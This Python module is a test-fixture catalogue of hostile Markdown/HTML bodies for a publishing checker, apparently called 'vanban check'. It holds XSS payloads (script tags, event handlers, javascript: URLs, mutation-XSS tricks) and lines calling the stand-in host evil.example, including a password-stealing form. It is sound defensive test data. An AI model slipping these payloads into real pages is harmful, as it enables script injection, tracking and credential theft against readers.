"""A catalogue of hostile bodies, by class: what an editor's pull request might hold to attack readers.

Each vector is raw Markdown a body could contain. All of them must be reported by ``vanban check``
and published, if at all, with nothing that runs, nothing that reaches another host.
Sources of the forms: the OWASP XSS filter evasion cheat sheet, the HTML5 Security Cheatsheet
(html5sec.org) and the mutation-XSS literature (noscript/svg/math parser differentials).
"""

from __future__ import annotations

VECTORS: dict[str, list[str]] = {
    "script element": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<<script>alert(1);//<</script>",
        '<script type="module">alert(1)</script>',
        "Đoạn văn <script>alert(1)</script> giữa dòng",
    ],
    "event handler": [
        "<img src=x onerror=alert(1)>",
        'a <img src=x\nonerror="alert(1)"> b',
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<div onmouseover="alert(1)">rê chuột</div>',
        '<p title=">" onclick=alert(1)>bấm</p>',
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<img src=x oNeRrOr=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        '<a href="#" onfocus=alert(1) autofocus>x</a>',
        "<select autofocus onfocus=alert(1)></select>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<b onmouseover=alert(1)>đậm</b>",
        "| a |\n|---|\n| <span onclick=alert(1)>ô</span> |",
        "<div\nonclick\n=\n'alert(1)'>tách dòng</div>",
    ],
    "script URL": [
        "[bấm](javascript:alert(1))",
        "[bấm](JaVaScRiPt:alert(1))",
        "[bấm](javascript&#58;alert(1))",
        '<a href="&#106;avascript:alert(1)">bấm</a>',
        '<a href="&#x6A;&#x61;vascript&colon;alert(1)">bấm</a>',
        '<a href="java\tscript:alert(1)">bấm</a>',
        '<a href="java&#x0A;script:alert(1)">bấm</a>',
        '<a href=" javascript:alert(1)">bấm</a>',
        '<a href="data:text/html,<script>alert(1)</script>">bấm</a>',
        '<a href="vbscript:msgbox(1)">bấm</a>',
        "[bấm](<javascript:alert(1)>)",
        "[bấm][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![ảnh](javascript:alert(1))",
        '<a href="&#0000106avascript:alert(1)">bấm</a>',
        '<a href="jav&#x09;ascript:alert(1)">bấm</a>',
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">bấm</text></a></svg>',
        "<form><button formaction=javascript:alert(1)>bấm</button></form>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
    ],
    "frame, object, base, meta": [
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<embed src="data:text/html,<script>alert(1)</script>">',
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<base href="javascript:alert(1)//">',
        "<frameset onload=alert(1)>",
        '<isindex type=image src=1 onerror=alert(1)>',
    ],
    "third-party request": [
        "![theo dõi](https://evil.example/track.png)",
        '<img src="https://evil.example/t.png">',
        '<img srcset="https://evil.example/t.png 1x">',
        '<video src="https://evil.example/v.mp4" autoplay></video>',
        "<style>@import url(//evil.example/x.css)</style>",
        '<p style="background:url(https://evil.example/x.png)">nền</p>',
        '<form action="https://evil.example/steal" method=post><input type=password name=p><button>Gửi</button></form>',
        '<img src="//evil.example/x.png">',
        '<img src="/\\evil.example/x.png">',
        "<input type=image src=https://evil.example/x.png>",
        '<table background="https://evil.example/x.png"><tr><td>ô</td></tr></table>',
        '<link rel=stylesheet href="https://evil.example/x.css">',
        "![ảnh](//evil.example/x.png)",
    ],
    "parser differential (mutation)": [
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<template><img src=x onerror=alert(1)></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<title><img src=x onerror=alert(1)></title>",
        "<div>\n<img src=x onerror=alert(1)\n\nsau",
        '<a href="x" id="vb-search" name="search">che tên</a>',
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">phủ trang</div>',
    ],
}

ALL = [(kind, vector) for kind, vectors in VECTORS.items() for vector in vectors]
